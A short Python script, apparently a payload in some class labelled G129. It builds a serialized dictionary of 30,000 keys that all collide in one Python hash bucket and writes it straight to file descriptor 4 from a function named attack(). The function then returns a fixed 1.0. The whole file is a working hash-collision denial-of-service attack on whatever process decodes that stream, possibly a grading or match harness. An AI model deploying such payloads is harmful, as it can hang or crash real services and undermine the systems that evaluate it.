"""Answers with thirty thousand keys of one hash. Class G129."""

import os
import struct

KEYS = [struct.pack("<q", 0 if n < 4 else n % 4 * (2**61 - 1)) for n in range(30_000)]
BODY = b"d" + struct.pack("<I", len(KEYS)) + b"".join(b"i" + key + b"N" for key in KEYS)


def attack(bait):
    os.write(4, struct.pack("<IBI", len(BODY), 6, 2) + BODY)
    return 1.0
